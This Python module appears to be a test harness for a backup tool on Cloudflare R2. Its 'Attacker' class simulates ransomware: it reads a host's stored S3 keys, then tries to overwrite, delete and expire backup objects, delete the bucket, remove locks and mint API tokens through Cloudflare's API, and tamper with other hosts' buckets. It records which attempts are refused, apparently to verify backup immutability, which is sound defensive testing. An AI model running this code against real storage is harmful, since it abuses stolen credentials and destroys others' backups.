# Copyright: (c) 2026, the holdfast.restic_r2 contributors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""Ransomware with root on one host: uses all that the host has to destroy backups, its own and those of others."""

from __future__ import annotations

import json
import re
import urllib.error
import urllib.request
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import boto3
from botocore.config import Config
from botocore.exceptions import ClientError

PARTS = ("config", "keys/", "data/", "index/", "snapshots/")
GARBAGE = b"pay up"


@dataclass(frozen=True)
class Attempt:
    """What was tried, and what was answered."""

    what: str
    answer: str
    refused: bool


class Attacker:
    """Has read everything on a host.

    Args:
        folder: Where the host keeps its credentials.
        settings: What the host's jobs do, which tells where the repository is.
        api_url: Cloudflare's API, which everybody knows.
        account_id: The account; on real R2 it is a part of the endpoint.
        others: The buckets of other hosts, whose names are easy to guess.
    """

    def __init__(self, folder: Path, settings: Path, api_url: str, account_id: str, others: list[str]) -> None:
        found = re.findall(r"aws_(\w+) = (\S+)", (folder / "s3").read_text(encoding="utf-8"))
        self.keys = dict(found)
        address = re.search(
            r'"repository": "s3:(https?://[^/]+)/([^/]+)/', settings.read_text(encoding="utf-8"), re.MULTILINE
        )
        assert address is not None
        self.endpoint, self.bucket = address.groups()
        self.account = f"{api_url}/accounts/{account_id}"
        self.others = others
        self.attempts: list[Attempt] = []
        self.s3 = boto3.client(
            "s3",
            endpoint_url=self.endpoint,
            region_name="auto",
            aws_access_key_id=self.keys["access_key_id"],
            aws_secret_access_key=self.keys["secret_access_key"],
            config=Config(s3={"addressing_style": "path"}, retries={"total_max_attempts": 1}),
        )

    def attack(self) -> list[Attempt]:
        """Try everything; what was tried and answered."""
        # Once, for R2 takes one write of an object a second.
        self.s3.put_object(Bucket=self.bucket, Key="locks/evil", Body=GARBAGE)
        for part in PARTS:
            self.strike_object(self.keys_below(part)[0])
        self.strike_many()
        self.strike_bucket()
        for name in ("secret_access_key", "access_key_id"):
            self.strike_account(name)
        for bucket in self.others:
            self.strike_neighbour(bucket)
        return self.attempts

    def keys_below(self, prefix: str) -> list[str]:
        listed = self.s3.list_objects_v2(Bucket=self.bucket, Prefix=prefix)
        return [entry["Key"] for entry in listed["Contents"]]

    def strike_object(self, key: str) -> None:
        """Overwrite and delete one object of the own repository, in every way that there is."""
        short = key if len(key) < 30 else f"{key[:24]}…"
        where = {"Bucket": self.bucket, "Key": key}
        self.s3_attempt(f"overwrite {short}", self.s3.put_object, Body=GARBAGE, **where)
        self.s3_attempt(f"delete {short}", self.s3.delete_object, **where)
        source = {"Bucket": self.bucket, "Key": "locks/evil"}
        self.s3_attempt(f"copy over {short}", self.s3.copy_object, CopySource=source, **where)
        self.s3_attempt(f"multipart over {short}", self.multipart, **where)

    def multipart(self, **where: Any) -> None:
        upload = {**where, "UploadId": self.s3.create_multipart_upload(**where)["UploadId"]}
        part = self.s3.upload_part(PartNumber=1, Body=GARBAGE, **upload)
        parts = {"Parts": [{"PartNumber": 1, "ETag": part["ETag"]}]}
        self.s3.complete_multipart_upload(MultipartUpload=parts, **upload)

    def strike_many(self) -> None:
        keys = [key for part in PARTS for key in self.keys_below(part)]

        def delete_all() -> None:
            answer = self.s3.delete_objects(Bucket=self.bucket, Delete={"Objects": [{"Key": key} for key in keys]})
            if answer.get("Deleted") or len(answer["Errors"]) != len(keys):
                return
            raise ClientError({"Error": answer["Errors"][0], "ResponseMetadata": {"HTTPStatusCode": 200}}, "batch")

        self.s3_attempt(f"batch delete of all {len(keys)} objects", delete_all)

    def strike_bucket(self) -> None:
        rule = {"ID": "gone", "Status": "Enabled", "Filter": {"Prefix": ""}, "Expiration": {"Days": 1}}
        self.s3_attempt(
            "lifecycle: expire everything tomorrow",
            self.s3.put_bucket_lifecycle_configuration,
            Bucket=self.bucket,
            LifecycleConfiguration={"Rules": [rule]},
        )
        self.s3_attempt("lifecycle: remove all rules", self.s3.delete_bucket_lifecycle, Bucket=self.bucket)
        self.s3_attempt("delete the bucket", self.s3.delete_bucket, Bucket=self.bucket)

    def strike_account(self, name: str) -> None:
        """Cloudflare's API, with half of the S3 key pair as the token."""
        bucket = f"{self.account}/r2/buckets/{self.bucket}"
        words = name.replace("_", " ")
        self.rest_attempt(f"lock change, {words} as token", "PUT", f"{bucket}/lock", {"rules": []}, name)
        self.rest_attempt(f"bucket removal, {words} as token", "DELETE", bucket, None, name)
        self.rest_attempt(f"a new token, {words} as token", "POST", f"{self.account}/tokens", {"name": "evil"}, name)

    def strike_neighbour(self, bucket: str) -> None:
        where = {"Bucket": bucket, "Key": "config"}
        self.s3_attempt(f"{bucket}: list", self.s3.list_objects_v2, Bucket=bucket)
        self.s3_attempt(f"{bucket}: read", self.s3.get_object, **where)
        self.s3_attempt(f"{bucket}: overwrite", self.s3.put_object, Body=GARBAGE, **where)
        self.s3_attempt(f"{bucket}: add an object", self.s3.put_object, Bucket=bucket, Key="index/evil", Body=GARBAGE)
        self.s3_attempt(f"{bucket}: delete", self.s3.delete_object, **where)

    def s3_attempt(self, what: str, call: Callable[..., Any], **arguments: Any) -> None:
        try:
            call(**arguments)
        except ClientError as error:
            status = error.response["ResponseMetadata"]["HTTPStatusCode"]
            self.attempts.append(Attempt(what, f"{status} {error.response['Error']['Code']}", True))
        else:
            self.attempts.append(Attempt(what, "done", False))

    def rest_attempt(self, what: str, method: str, url: str, body: Any, token: str) -> None:
        headers = {"Authorization": f"Bearer {self.keys[token]}", "Content-Type": "application/json"}
        data = None if body is None else json.dumps(body).encode()
        try:
            with urllib.request.urlopen(urllib.request.Request(url, data, headers, method=method), timeout=30):
                self.attempts.append(Attempt(what, "done", False))
        except urllib.error.HTTPError as error:
            code = json.loads(error.read())["errors"][0]["code"]
            self.attempts.append(Attempt(what, f"{error.code} code {code}", True))
